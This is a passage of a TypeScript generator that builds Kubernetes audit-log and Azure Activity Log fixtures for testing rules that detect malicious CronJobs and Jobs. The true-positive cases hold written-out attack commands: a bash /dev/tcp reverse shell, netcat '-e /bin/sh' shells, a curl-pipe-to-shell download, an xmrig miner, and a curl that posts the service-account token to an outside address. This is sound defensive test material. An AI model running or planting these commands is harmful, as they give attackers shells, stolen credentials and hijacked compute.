/**
 * Writes the raw true-positive / false-positive audit events of the Kubernetes pack rules
 * (`rules/k8s/<rule>.tests/{tp,fp}/<case>.json`) and the Azure Activity Log cases, from
 * compact case tables. The events follow the audit.k8s.io/v1 schema at RequestResponse level
 * (k8s-audit-formats.md §3.1, §3.8): full user, sourceIPs, userAgent, objectRef, status,
 * request and (defaulted) response bodies. Envelope variants are made from these raw files by
 * scripts/envelope-rule-tests.ts.
 *
 * Run: `npx tsx scripts/gen-rule-tests.ts && npx tsx scripts/envelope-rule-tests.ts`.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';

type Json = Record<string, unknown>;

const ROOT = new URL('../', import.meta.url).pathname;
let tick = Date.parse('2026-11-24T09:00:00.000000Z');

/** Sets the clock of the next event (the samples generator writes a whole day). */
export function setClock(ms: number): void {
  tick = ms;
}

/** The clock after the last event. */
export function clockNow(): number {
  return tick;
}

function uuidOf(seed: string): string {
  const hex = createHash('sha256').update(seed).digest('hex');
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
}

export const PEOPLE = {
  alice: { username: 'alice@example.com', groups: ['platform-devs', 'system:authenticated'] },
  mallory: { username: 'mallory@contractor.example', groups: ['system:authenticated'] },
  ci: {
    username: 'system:serviceaccount:ci:deployer',
    uid: 'b7c6c9a4-1d53-4c39-9d1e-3f1d6c0c2a11',
    groups: ['system:serviceaccounts', 'system:serviceaccounts:ci', 'system:authenticated'],
  },
  cronjobController: {
    username: 'system:serviceaccount:kube-system:cronjob-controller',
    groups: [
      'system:serviceaccounts',
      'system:serviceaccounts:kube-system',
      'system:authenticated',
    ],
  },
  jobController: {
    username: 'system:serviceaccount:kube-system:job-controller',
    groups: [
      'system:serviceaccounts',
      'system:serviceaccounts:kube-system',
      'system:authenticated',
    ],
  },
  deploymentController: {
    username: 'system:serviceaccount:kube-system:deployment-controller',
    groups: [
      'system:serviceaccounts',
      'system:serviceaccounts:kube-system',
      'system:authenticated',
    ],
  },
  eksAddon: { username: 'eks:addon-manager', groups: ['system:authenticated'] },
  ksm: {
    username: 'system:serviceaccount:monitoring:kube-state-metrics',
    groups: ['system:serviceaccounts', 'system:serviceaccounts:monitoring', 'system:authenticated'],
  },
  webPod: {
    username: 'system:serviceaccount:shop:web',
    uid: '5f0e2b0c-8a8f-4b0e-9e55-2c1f0a4d7e21',
    groups: ['system:serviceaccounts', 'system:serviceaccounts:shop', 'system:authenticated'],
    extra: {
      'authentication.kubernetes.io/credential-id': ['JTI=0b1d8f6e-6c5e-4f4a-8a2b-1b2c3d4e5f60'],
      'authentication.kubernetes.io/node-name': ['aks-nodepool1-12345678-vmss000001'],
      'authentication.kubernetes.io/node-uid': ['0c4f1f0e-3d1e-4b1a-9a0f-1e2d3c4b5a69'],
      'authentication.kubernetes.io/pod-name': ['web-7d9f8b6c5d-x2k4q'],
      'authentication.kubernetes.io/pod-uid': ['9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d'],
    },
  },
  anonymous: { username: 'system:anonymous', groups: ['system:unauthenticated'] },
} as const;

export const AGENTS = {
  kubectl: 'kubectl/v1.30.2 (linux/amd64) kubernetes/3968350',
  controller:
    'kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:cronjob-controller',
  curl: 'curl/8.5.0',
  helm: 'Helm/3.15.2',
};

export interface Container {
  name: string;
  image: string;
  command?: string[];
  args?: string[];
  securityContext?: Json;
}

function defaultedContainer(container: Container): Json {
  return {
    ...container,
    resources: {},
    terminationMessagePath: '/dev/termination-log',
    terminationMessagePolicy: 'File',
    imagePullPolicy:
      container.image.endsWith(':latest') || !container.image.includes(':')
        ? 'Always'
        : 'IfNotPresent',
  };
}

interface PodOptions {
  containers: Container[];
  initContainers?: Container[];
  extra?: Json;
}

function podSpec(options: PodOptions, defaulted: boolean): Json {
  const convert = (list: Container[]) => (defaulted ? list.map(defaultedContainer) : list);
  const spec: Json = {
    containers: convert(options.containers),
    restartPolicy: 'OnFailure',
    ...(options.initContainers ? { initContainers: convert(options.initContainers) } : {}),
    ...options.extra,
  };
  if (defaulted) {
    Object.assign(spec, {
      terminationGracePeriodSeconds: 30,
      dnsPolicy: 'ClusterFirst',
      securityContext: (options.extra?.securityContext as Json | undefined) ?? {},
      schedulerName: 'default-scheduler',
    });
  }
  return spec;
}

export interface CronJobOptions extends PodOptions {
  name: string;
  namespace: string;
  schedule?: string;
  cronSpec?: Json;
}

export function cronJob(options: CronJobOptions, defaulted: boolean): Json {
  const metadata: Json = { name: options.name, namespace: options.namespace };
  if (defaulted) {
    Object.assign(metadata, {
      uid: uuidOf(`cj-${options.namespace}-${options.name}`),
      resourceVersion: '48211',
      generation: 1,
      creationTimestamp: '2026-11-24T09:00:00Z',
    });
  }
  return {
    kind: 'CronJob',
    apiVersion: 'batch/v1',
    metadata,
    spec: {
      schedule: options.schedule ?? '0 2 * * *',
      ...(defaulted
        ? {
            concurrencyPolicy: 'Allow',
            suspend: false,
            successfulJobsHistoryLimit: 3,
            failedJobsHistoryLimit: 1,
          }
        : {}),
      ...options.cronSpec,
      jobTemplate: {
        metadata: { creationTimestamp: null },
        spec: {
          template: { metadata: { creationTimestamp: null }, spec: podSpec(options, defaulted) },
        },
      },
    },
    status: {},
  };
}

interface JobOptions extends PodOptions {
  name: string;
  namespace: string;
  metadata?: Json;
  jobSpec?: Json;
}

export function job(options: JobOptions, defaulted: boolean): Json {
  return {
    kind: 'Job',
    apiVersion: 'batch/v1',
    metadata: { name: options.name, namespace: options.namespace, ...options.metadata },
    spec: {
      ...(defaulted
        ? {
            parallelism: 1,
            completions: 1,
            backoffLimit: 6,
            completionMode: 'NonIndexed',
            suspend: false,
          }
        : {}),
      ...options.jobSpec,
      template: { metadata: { creationTimestamp: null }, spec: podSpec(options, defaulted) },
    },
    status: {},
  };
}

export function workload(kind: string, options: JobOptions, defaulted: boolean): Json {
  const spec = podSpec(options, defaulted);
  spec.restartPolicy = 'Always';
  return {
    kind,
    apiVersion: 'apps/v1',
    metadata: { name: options.name, namespace: options.namespace },
    spec: {
      selector: { matchLabels: { app: options.name } },
      template: { metadata: { labels: { app: options.name } }, spec },
    },
  };
}

interface AuditOptions {
  verb: string;
  resource: string;
  namespace?: string;
  name?: string;
  apiGroup?: string;
  subresource?: string;
  user: Json;
  userAgent?: string;
  sourceIP?: string;
  code?: number;
  request?: unknown;
  response?: unknown;
  level?: string;
  stage?: string;
  uriQuery?: string;
  annotations?: Record<string, string>;
}

export function audit(options: AuditOptions): Json {
  tick += 37_000;
  const time = new Date(tick).toISOString().replace('Z', '000Z');
  const group = options.apiGroup ?? 'batch';
  const prefix = group === '' ? '/api/v1' : `/apis/${group}/v1`;
  const nsPath = options.namespace ? `/namespaces/${options.namespace}` : '';
  const isCollection =
    options.verb === 'create' || options.verb === 'list' || options.name === undefined;
  const uri = `${prefix}${nsPath}/${options.resource}${isCollection ? '' : `/${options.name}`}${options.subresource ? `/${options.subresource}` : ''}${options.uriQuery ?? ''}`;
  const code = options.code ?? (options.verb === 'create' ? 201 : 200);
  const failed = code >= 400;
  const reason = failed
    ? ''
    : `RBAC: allowed by RoleBinding "edit" of ClusterRole "edit" to User "${String(options.user.username)}"`;
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: options.level ?? 'RequestResponse',
    auditID: uuidOf(`${time}-${uri}-${options.verb}`),
    stage: options.stage ?? 'ResponseComplete',
    requestURI: uri,
    verb: options.verb,
    user: options.user,
    sourceIPs: [options.sourceIP ?? '198.51.100.20'],
    userAgent: options.userAgent ?? AGENTS.kubectl,
    objectRef: {
      resource: options.resource,
      ...(options.namespace ? { namespace: options.namespace } : {}),
      ...(options.name ? { name: options.name } : {}),
      apiGroup: group,
      apiVersion: 'v1',
      ...(options.subresource ? { subresource: options.subresource } : {}),
    },
    responseStatus: failed
      ? {
          metadata: {},
          status: 'Failure',
          message: `${options.resource}.${group} is forbidden: User "${String(options.user.username)}" cannot ${options.verb} resource "${options.resource}" in API group "${group}" in the namespace "${options.namespace ?? ''}"`,
          reason: code === 401 ? 'Unauthorized' : 'Forbidden',
          details: { group, kind: options.resource },
          code,
        }
      : { metadata: {}, code },
    ...(options.request !== undefined && options.level !== 'Metadata'
      ? { requestObject: options.request }
      : {}),
    ...(options.response !== undefined &&
    options.level !== 'Metadata' &&
    options.level !== 'Request'
      ? { responseObject: options.response }
      : {}),
    requestReceivedTimestamp: time,
    stageTimestamp: time,
    annotations: {
      'authorization.k8s.io/decision': failed ? 'forbid' : 'allow',
      'authorization.k8s.io/reason': reason,
      ...options.annotations,
    },
  };
}

/** A CronJob create, with the request body and the defaulted response. */
export function createCronJob(
  user: Json,
  options: CronJobOptions,
  extra: Partial<AuditOptions> = {},
): Json {
  return audit({
    verb: 'create',
    resource: 'cronjobs',
    namespace: options.namespace,
    name: options.name,
    user,
    request: cronJob(options, false),
    response: cronJob(options, true),
    uriQuery: '?fieldManager=kubectl-create&fieldValidation=Strict',
    ...extra,
  });
}

export function createJob(
  user: Json,
  options: JobOptions,
  extra: Partial<AuditOptions> = {},
): Json {
  return audit({
    verb: 'create',
    resource: 'jobs',
    namespace: options.namespace,
    name: options.name,
    user,
    request: job(options, false),
    response: job(options, true),
    ...extra,
  });
}

export const BACKUP: CronJobOptions = {
  name: 'db-backup',
  namespace: 'payments',
  schedule: '30 1 * * *',
  containers: [
    {
      name: 'backup',
      image: 'registry.example.com/ops/pg-backup:15.4',
      command: ['/bin/sh', '-c', 'pg_dump "$DATABASE_URL" | gzip > /backup/db-$(date +%F).sql.gz'],
    },
  ],
  extra: { serviceAccountName: 'db-backup' },
};

export const REPORT: CronJobOptions = {
  name: 'daily-report',
  namespace: 'analytics',
  schedule: '0 6 * * 1-5',
  containers: [
    {
      name: 'report',
      image: 'registry.example.com/analytics/report:2.3.1',
      args: ['--since=24h', '--to=reports@example.com'],
    },
  ],
};

export const REVERSE_SHELL: CronJobOptions = {
  name: 'kube-metrics-sync',
  namespace: 'default',
  schedule: '*/1 * * * *',
  containers: [
    {
      name: 'sync',
      image: 'alpine:3.20',
      command: ['/bin/sh', '-c', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'],
    },
  ],
};

type Cases = Record<string, Json | Json[]>;

interface RuleCases {
  readonly rule: string;
  readonly tp: Cases;
  readonly fp: Cases;
}

const CASES: RuleCases[] = [
  {
    rule: 'rules/k8s/cw-001-cronjob-job-written',
    tp: {
      'human-creates-cronjob': createCronJob(PEOPLE.mallory, REVERSE_SHELL),
      'ci-creates-report-cronjob': createCronJob(PEOPLE.ci, REPORT, { userAgent: AGENTS.helm }),
      'human-patches-job': audit({
        verb: 'patch',
        resource: 'jobs',
        namespace: 'analytics',
        name: 'daily-report-manual',
        user: PEOPLE.alice,
        request: { spec: { suspend: false } },
        response: job(
          { name: 'daily-report-manual', namespace: 'analytics', containers: REPORT.containers },
          true,
        ),
      }),
    },
    fp: {
      'cronjob-controller-spawns-job': createJob(
        PEOPLE.cronjobController,
        {
          name: 'db-backup-29401170',
          namespace: 'payments',
          containers: BACKUP.containers,
          metadata: {
            ownerReferences: [
              {
                apiVersion: 'batch/v1',
                kind: 'CronJob',
                name: 'db-backup',
                uid: uuidOf('cj-payments-db-backup'),
                controller: true,
                blockOwnerDeletion: true,
              },
            ],
          },
        },
        { userAgent: AGENTS.controller, sourceIP: '10.224.0.4' },
      ),
      'denied-create': createCronJob(PEOPLE.mallory, REVERSE_SHELL, { code: 403 }),
      'dry-run-create': createCronJob(PEOPLE.alice, REPORT, {
        uriQuery: '?dryRun=All&fieldManager=kubectl-create',
      }),
      'get-cronjob': audit({
        verb: 'get',
        resource: 'cronjobs',
        namespace: 'payments',
        name: 'db-backup',
        user: PEOPLE.alice,
      }),
      'eks-addon-manager': createCronJob(PEOPLE.eksAddon, {
        ...REPORT,
        namespace: 'kube-system',
        name: 'eks-cleanup',
      }),
      'request-received-stage': createCronJob(PEOPLE.alice, REPORT, {
        stage: 'RequestReceived',
        level: 'Request',
      }),
    },
  },
  {
    rule: 'rules/k8s/cw-002-privileged-job-template',
    tp: {
      'privileged-hostpid-cronjob': createCronJob(PEOPLE.mallory, {
        ...REVERSE_SHELL,
        name: 'node-agent',
        containers: [
          {
            name: 'agent',
            image: 'alpine:3.20',
            command: ['sleep', '3600'],
            securityContext: { privileged: true },
          },
        ],
        extra: { hostPID: true },
      }),
      'job-mounts-host-root-request-only': audit({
        verb: 'create',
        resource: 'jobs',
        namespace: 'default',
        name: 'debug',
        user: PEOPLE.mallory,
        level: 'Request',
        request: job(
          {
            name: 'debug',
            namespace: 'default',
            containers: [{ name: 'debug', image: 'busybox:1.36', command: ['chroot', '/host'] }],
            extra: { volumes: [{ name: 'host', hostPath: { path: '/' } }] },
          },
          false,
        ),
      }),
      'init-container-sys-admin': createCronJob(PEOPLE.alice, {
        ...REPORT,
        initContainers: [
          {
            name: 'setup',
            image: 'busybox:1.36',
            securityContext: { capabilities: { add: ['SYS_ADMIN'] } },
          },
        ],
      }),
      'webhook-added-privileges-in-response': audit({
        verb: 'create',
        resource: 'cronjobs',
        namespace: 'analytics',
        name: REPORT.name,
        user: PEOPLE.alice,
        request: cronJob(REPORT, false),
        response: cronJob(
          {
            ...REPORT,
            containers: [
              { ...(REPORT.containers[0] as Container), securityContext: { runAsUser: 0 } },
            ],
          },
          true,
        ),
      }),
    },
    fp: {
      'plain-backup-cronjob': createCronJob(PEOPLE.ci, BACKUP),
      'non-root-hardened-job': createJob(PEOPLE.alice, {
        name: 'migrate',
        namespace: 'payments',
        containers: [
          {
            name: 'migrate',
            image: 'registry.example.com/payments/migrate:7.1',
            securityContext: {
              runAsNonRoot: true,
              runAsUser: 10001,
              allowPrivilegeEscalation: false,
              capabilities: { drop: ['ALL'] },
            },
          },
        ],
        extra: { volumes: [{ name: 'tmp', emptyDir: {} }] },
      }),
      'request-privileged-but-response-stripped': audit({
        verb: 'create',
        resource: 'cronjobs',
        namespace: 'analytics',
        name: REPORT.name,
        user: PEOPLE.alice,
        request: cronJob(
          {
            ...REPORT,
            containers: [
              { ...(REPORT.containers[0] as Container), securityContext: { privileged: true } },
            ],
          },
          false,
        ),
        response: cronJob(
          {
            ...REPORT,
            containers: [
              { ...(REPORT.containers[0] as Container), securityContext: { privileged: false } },
            ],
          },
          true,
        ),
      }),
      'job-controller-pod-of-privileged-job': createJob(
        PEOPLE.cronjobController,
        {
          name: 'node-agent-29401171',
          namespace: 'default',
          containers: [
            { name: 'agent', image: 'alpine:3.20', securityContext: { privileged: true } },
          ],
        },
        { userAgent: AGENTS.controller },
      ),
      'non-sensitive-host-path': createCronJob(PEOPLE.alice, {
        ...REPORT,
        extra: {
          volumes: [
            { name: 'cache', hostPath: { path: '/mnt/report-cache', type: 'DirectoryOrCreate' } },
          ],
        },
      }),
    },
  },
  {
    rule: 'rules/k8s/cw-003-suspicious-job-command',
    tp: {
      'reverse-shell-dev-tcp': createCronJob(PEOPLE.mallory, REVERSE_SHELL),
      'curl-pipe-sh-in-args': createJob(PEOPLE.mallory, {
        name: 'update',
        namespace: 'default',
        containers: [
          {
            name: 'update',
            image: 'curlimages/curl:8.5.0',
            command: ['sh', '-c'],
            args: ['curl -fsSL http://203.0.113.9/x.sh | sh'],
          },
        ],
      }),
      'miner-in-init-container': createCronJob(PEOPLE.mallory, {
        ...REPORT,
        initContainers: [
          {
            name: 'warm',
            image: 'alpine:3.20',
            args: ['xmrig', '-o', 'stratum+tcp://pool.example.net:3333'],
          },
        ],
      }),
      'service-account-token-exfiltration': createCronJob(PEOPLE.mallory, {
        ...BACKUP,
        name: 'sa-sync',
        containers: [
          {
            name: 'sync',
            image: 'curlimages/curl:8.5.0',
            command: [
              'sh',
              '-c',
              'curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://203.0.113.9/t',
            ],
          },
        ],
      }),
      'netcat-argv': createCronJob(PEOPLE.mallory, {
        ...REVERSE_SHELL,
        name: 'nc-beacon',
        containers: [
          {
            name: 'nc',
            image: 'busybox:1.36',
            command: ['/bin/nc'],
            args: ['203.0.113.66', '4444', '-e', '/bin/sh'],
          },
        ],
      }),
    },
    fp: {
      'backup-pipes-to-gzip': createCronJob(PEOPLE.ci, BACKUP),
      'healthcheck-curl-without-pipe': createCronJob(PEOPLE.alice, {
        ...REPORT,
        name: 'ping-healthcheck',
        containers: [
          {
            name: 'ping',
            image: 'curlimages/curl:8.5.0',
            command: ['curl', '-fsS', '--retry', '3', 'https://hc.example.com/ping/abc'],
          },
        ],
      }),
      'report-args': createCronJob(PEOPLE.ci, REPORT),
      'controller-copies-template': createJob(
        PEOPLE.cronjobController,
        {
          name: 'kube-metrics-sync-29401172',
          namespace: 'default',
          containers: REVERSE_SHELL.containers,
        },
        { userAgent: AGENTS.controller },
      ),
    },
  },
  {
    rule: 'rules/k8s/cw-004-stealthy-schedule',
    tp: {
      'every-minute-schedule': createCronJob(PEOPLE.mallory, REVERSE_SHELL),
      'history-limits-zero': createCronJob(PEOPLE.mallory, {
        ...REPORT,
        name: 'cleanup',
        cronSpec: { successfulJobsHistoryLimit: 0, failedJobsHistoryLimit: 0 },
      }),
      'suspend-toggled-by-patch': audit({
        verb: 'patch',
        resource: 'cronjobs',
        namespace: 'payments',
        name: 'db-backup',
        user: PEOPLE.mallory,
        uriQuery: '?fieldManager=kubectl-patch',
        request: { spec: { suspend: true } },
        response: cronJob({ ...BACKUP, cronSpec: { suspend: true } }, true),
      }),
      'job-ttl-zero': createJob(PEOPLE.mallory, {
        name: 'oneshot',
        namespace: 'default',
        containers: [{ name: 'x', image: 'alpine:3.20', command: ['id'] }],
        jobSpec: { ttlSecondsAfterFinished: 0 },
      }),
    },
    fp: {
      'nightly-backup-defaults': createCronJob(PEOPLE.ci, BACKUP),
      'every-fifteen-minutes': createCronJob(PEOPLE.alice, {
        ...REPORT,
        name: 'queue-drain',
        schedule: '*/15 * * * *',
      }),
      'label-patch': audit({
        verb: 'patch',
        resource: 'cronjobs',
        namespace: 'payments',
        name: 'db-backup',
        user: PEOPLE.alice,
        request: { metadata: { labels: { owner: 'payments' } } },
        response: cronJob(BACKUP, true),
      }),
      'job-ttl-one-hour': createJob(PEOPLE.ci, {
        name: 'migrate',
        namespace: 'payments',
        containers: [{ name: 'migrate', image: 'registry.example.com/payments/migrate:7.1' }],
        jobSpec: { ttlSecondsAfterFinished: 3600 },
      }),
    },
  },
  {
    rule: 'rules/k8s/cw-006-manual-job-from-cronjob',
    tp: {
      'kubectl-create-job-from-cronjob': createJob(PEOPLE.mallory, {
        name: 'db-backup-manual-x7k2p',
        namespace: 'payments',
        containers: BACKUP.containers,
        metadata: {
          annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' },
          ownerReferences: [
            {
              apiVersion: 'batch/v1',
              kind: 'CronJob',
              name: 'db-backup',
              uid: uuidOf('cj-payments-db-backup'),
              controller: true,
            },
          ],
        },
      }),
      'owner-reference-only': createJob(PEOPLE.alice, {
        name: 'daily-report-rerun',
        namespace: 'analytics',
        containers: REPORT.containers,
        metadata: {
          ownerReferences: [
            {
              apiVersion: 'batch/v1',
              kind: 'CronJob',
              name: 'daily-report',
              uid: uuidOf('cj-analytics-daily-report'),
            },
          ],
        },
      }),
    },
    fp: {
      'scheduled-run-by-controller': createJob(
        PEOPLE.cronjobController,
        {
          name: 'db-backup-29401170',
          namespace: 'payments',
          containers: BACKUP.containers,
          metadata: {
            ownerReferences: [
              {
                apiVersion: 'batch/v1',
                kind: 'CronJob',
                name: 'db-backup',
                uid: uuidOf('cj-payments-db-backup'),
                controller: true,
              },
            ],
          },
        },
        { userAgent: AGENTS.controller },
      ),
      'standalone-job': createJob(PEOPLE.alice, {
        name: 'migrate',
        namespace: 'payments',
        containers: [{ name: 'migrate', image: 'registry.example.com/payments/migrate:7.1' }],
      }),
      'denied-manual-trigger': createJob(
        PEOPLE.mallory,
        {
          name: 'db-backup-manual',
          namespace: 'payments',
          containers: BACKUP.containers,
          metadata: { annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' } },
        },
        { code: 403 },
      ),
    },
  },
  {
    rule: 'rules/k8s/cw-007-job-from-pod-token',
    tp: {
      'pod-token-creates-cronjob': createCronJob(
        PEOPLE.webPod,
        { ...REVERSE_SHELL, namespace: 'shop' },
        { userAgent: AGENTS.curl, sourceIP: '10.244.1.17' },
      ),
      'pod-token-creates-job': createJob(
        PEOPLE.webPod,
        {
          name: 'x',
          namespace: 'shop',
          containers: [{ name: 'x', image: 'alpine:3.20', command: ['id'] }],
        },
        { userAgent: 'python-requests/2.32.3', sourceIP: '10.244.1.17' },
      ),
    },
    fp: {
      'ci-service-account-with-kubeconfig': createCronJob(PEOPLE.ci, REPORT),
      'human-creates-job': createJob(PEOPLE.alice, {
        name: 'migrate',
        namespace: 'payments',
        containers: [{ name: 'migrate', image: 'registry.example.com/payments/migrate:7.1' }],
      }),
      'pod-token-list-only': audit({
        verb: 'list',
        resource: 'cronjobs',
        namespace: 'shop',
        user: PEOPLE.webPod,
        userAgent: AGENTS.curl,
      }),
    },
  },
  {
    rule: 'rules/k8s/cw-008-protected-namespace-or-privileged-sa',
    tp: {
      'human-cronjob-in-kube-system': createCronJob(PEOPLE.mallory, {
        ...REVERSE_SHELL,
        namespace: 'kube-system',
        name: 'kube-proxy-sync',
      }),
      'job-runs-as-controller-sa': createCronJob(PEOPLE.mallory, {
        ...REPORT,
        namespace: 'kube-system',
        name: 'gc',
        extra: { serviceAccountName: 'generic-garbage-collector' },
      }),
      'privileged-sa-in-other-namespace': createJob(PEOPLE.alice, {
        name: 'sync',
        namespace: 'argocd',
        containers: [{ name: 'sync', image: 'registry.example.com/ops/sync:1.0' }],
        extra: { serviceAccountName: 'argocd-application-controller' },
      }),
    },
    fp: {
      'platform-job-in-kube-system': createCronJob(PEOPLE.eksAddon, {
        ...REPORT,
        namespace: 'kube-system',
        name: 'eks-cleanup',
      }),
      'team-cronjob-own-sa': createCronJob(PEOPLE.ci, BACKUP),
      'controller-job-in-kube-system': createJob(
        PEOPLE.cronjobController,
        {
          name: 'etcd-defrag-29401170',
          namespace: 'kube-system',
          containers: [{ name: 'defrag', image: 'registry.k8s.io/etcd:3.5.12-0' }],
        },
        { userAgent: AGENTS.controller },
      ),
    },
  },
  {
    rule: 'rules/k8s/cw-009-unpinned-job-image',
    tp: {
      'untagged-docker-hub-image': createCronJob(PEOPLE.mallory, {
        ...REPORT,
        name: 'x',
        containers: [{ name: 'x', image: 'alpine', command: ['id'] }],
      }),
      'latest-tag-private-registry': createJob(PEOPLE.alice, {
        name: 'tool',
        namespace: 'default',
        containers: [{ name: 'tool', image: 'evil.example.net:5000/tools/kit:latest' }],
      }),
    },
    fp: {
      'pinned-tag': createCronJob(PEOPLE.ci, BACKUP),
      'digest-pinned-latest': createCronJob(PEOPLE.ci, {
        ...REPORT,
        containers: [
          {
            name: 'report',
            image:
              'registry.example.com/analytics/report:latest@sha256:4f1d3e1b2c9a7b6e5d4c3b2a19f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6',
          },
        ],
      }),
      'registry-port-with-tag': createJob(PEOPLE.alice, {
        name: 'tool',
        namespace: 'default',
        containers: [{ name: 'tool', image: 'registry.example.com:5000/tools/kit:2.0.1' }],
      }),
    },
  },
  {
    rule: 'rules/k8s/cw-010-job-reconnaissance',
    tp: {
      'human-lists-cronjobs-all-namespaces': audit({
        verb: 'list',
        resource: 'cronjobs',
        user: PEOPLE.mallory,
        level: 'Request',
      }),
      'denied-create': createCronJob(
        PEOPLE.webPod,
        { ...REVERSE_SHELL, namespace: 'shop' },
        { code: 403, userAgent: AGENTS.curl },
      ),
      'anonymous-get': audit({
        verb: 'get',
        resource: 'jobs',
        namespace: 'default',
        name: 'x',
        user: PEOPLE.anonymous,
        userAgent: AGENTS.curl,
        code: 401,
        level: 'Metadata',
      }),
    },
    fp: {
      'kube-state-metrics-watch': audit({
        verb: 'watch',
        resource: 'cronjobs',
        user: PEOPLE.ksm,
        level: 'Request',
        userAgent: 'kube-state-metrics/v2.12.0',
      }),
      'controller-lists-jobs': audit({
        verb: 'list',
        resource: 'jobs',
        user: PEOPLE.cronjobController,
        level: 'Request',
        userAgent: AGENTS.controller,
      }),
      'allowed-create': createCronJob(PEOPLE.ci, REPORT),
    },
  },
  {
    rule: 'rules/k8s/cw-015-risky-controller-template',
    tp: {
      'privileged-daemonset': audit({
        verb: 'create',
        resource: 'daemonsets',
        apiGroup: 'apps',
        namespace: 'default',
        name: 'node-exporter-x',
        user: PEOPLE.mallory,
        request: workload(
          'DaemonSet',
          {
            name: 'node-exporter-x',
            namespace: 'default',
            containers: [
              { name: 'x', image: 'alpine:3.20', securityContext: { privileged: true } },
            ],
            extra: { hostNetwork: true },
          },
          false,
        ),
        response: workload(
          'DaemonSet',
          {
            name: 'node-exporter-x',
            namespace: 'default',
            containers: [
              { name: 'x', image: 'alpine:3.20', securityContext: { privileged: true } },
            ],
            extra: { hostNetwork: true },
          },
          true,
        ),
      }),
      'deployment-reverse-shell-patch': audit({
        verb: 'patch',
        resource: 'deployments',
        apiGroup: 'apps',
        namespace: 'shop',
        name: 'web',
        user: PEOPLE.mallory,
        request: {
          spec: {
            template: {
              spec: {
                containers: [
                  { name: 'web', command: ['sh', '-c', 'nc -e /bin/sh 203.0.113.66 4444'] },
                ],
              },
            },
          },
        },
      }),
    },
    fp: {
      'plain-deployment': audit({
        verb: 'create',
        resource: 'deployments',
        apiGroup: 'apps',
        namespace: 'shop',
        name: 'web',
        user: PEOPLE.ci,
        request: workload(
          'Deployment',
          {
            name: 'web',
            namespace: 'shop',
            containers: [{ name: 'web', image: 'registry.example.com/shop/web:4.2.0' }],
          },
          false,
        ),
        response: workload(
          'Deployment',
          {
            name: 'web',
            namespace: 'shop',
            containers: [{ name: 'web', image: 'registry.example.com/shop/web:4.2.0' }],
          },
          true,
        ),
      }),
      'replicaset-by-deployment-controller': audit({
        verb: 'create',
        resource: 'replicasets',
        apiGroup: 'apps',
        namespace: 'kube-system',
        name: 'cilium-operator-5d4f',
        user: PEOPLE.deploymentController,
        userAgent: AGENTS.controller,
        request: workload(
          'ReplicaSet',
          {
            name: 'cilium-operator-5d4f',
            namespace: 'kube-system',
            containers: [{ name: 'op', image: 'quay.io/cilium/operator:1.15.6' }],
            extra: { hostNetwork: true },
          },
          false,
        ),
      }),
      'cronjob-is-not-a-controller-template': createCronJob(PEOPLE.mallory, REVERSE_SHELL),
    },
  },
  {
    rule: 'rules/k8s/cw-016-blind-spot',
    tp: {
      'truncated-cronjob-create': audit({
        verb: 'create',
        resource: 'cronjobs',
        namespace: 'default',
        name: 'big',
        user: PEOPLE.mallory,
        annotations: { 'audit.k8s.io/truncated': 'true' },
      }),
      'aks-skipped-too-big': audit({
        verb: 'update',
        resource: 'cronjobs',
        namespace: 'payments',
        name: 'db-backup',
        user: PEOPLE.alice,
        request: 'skipped-too-big-size-object',
        response: 'skipped-too-big-size-object',
      }),
      'metadata-level-job-create': createJob(
        PEOPLE.mallory,
        { name: 'x', namespace: 'default', containers: [{ name: 'x', image: 'alpine:3.20' }] },
        { level: 'Metadata' },
      ),
    },
    fp: {
      'full-body-create': createCronJob(PEOPLE.ci, BACKUP),
      'metadata-level-get': audit({
        verb: 'get',
        resource: 'cronjobs',
        namespace: 'payments',
        name: 'db-backup',
        user: PEOPLE.alice,
        level: 'Metadata',
      }),
      'truncated-controller-job': createJob(
        PEOPLE.cronjobController,
        {
          name: 'big-29401173',
          namespace: 'default',
          containers: [{ name: 'x', image: 'alpine:3.20' }],
        },
        {
          annotations: { 'audit.k8s.io/truncated': 'true' },
          level: 'Metadata',
          userAgent: AGENTS.controller,
        },
      ),
    },
  },
];

function activity(
  operationName: string,
  status: string,
  caller = 'mallory@contractor.example',
): Json {
  tick += 41_000;
  return {
    time: new Date(tick).toISOString(),
    resourceId:
      '/SUBSCRIPTIONS/0B1F6471-1BF0-4DDA-AEC3-CB9272F09590/RESOURCEGROUPS/RG-PROD/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-PROD',
    operationName,
    category: 'Administrative',
    resultType: status === 'Failed' ? 'Failure' : 'Success',
    resultSignature: status === 'Failed' ? 'Forbidden' : 'Succeeded.Created',
    callerIpAddress: '198.51.100.20',
    correlationId: uuidOf(`${tick}-${operationName}`),
    identity: {
      authorization: {
        action: operationName,
        scope:
          '/subscriptions/0b1f6471-1bf0-4dda-aec3-cb9272f09590/resourceGroups/rg-prod/providers/Microsoft.ContainerService/managedClusters/aks-prod',
      },
    },
    caller,
    level: 'Information',
    location: 'westeurope',
    status,
    properties: {
      statusCode: status === 'Failed' ? 'Forbidden' : 'Created',
      serviceRequestId: uuidOf(`svc-${tick}`),
    },
  };
}

const AZURE_CASES: RuleCases[] = [
  {
    rule: 'rules/azure/cw-011-azure-cronjob-write',
    tp: {
      'aks-cronjob-write': {
        records: [
          activity('MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/WRITE', 'Succeeded'),
        ],
      },
      'arc-job-write-mixed-case': {
        records: [activity('Microsoft.Kubernetes/connectedClusters/batch/jobs/write', 'Succeeded')],
      },
      'aks-cronjob-delete': {
        records: [
          activity('MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/DELETE', 'Succeeded'),
        ],
      },
    },
    fp: {
      'aks-cronjob-read': {
        records: [
          activity(
            'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/READ',
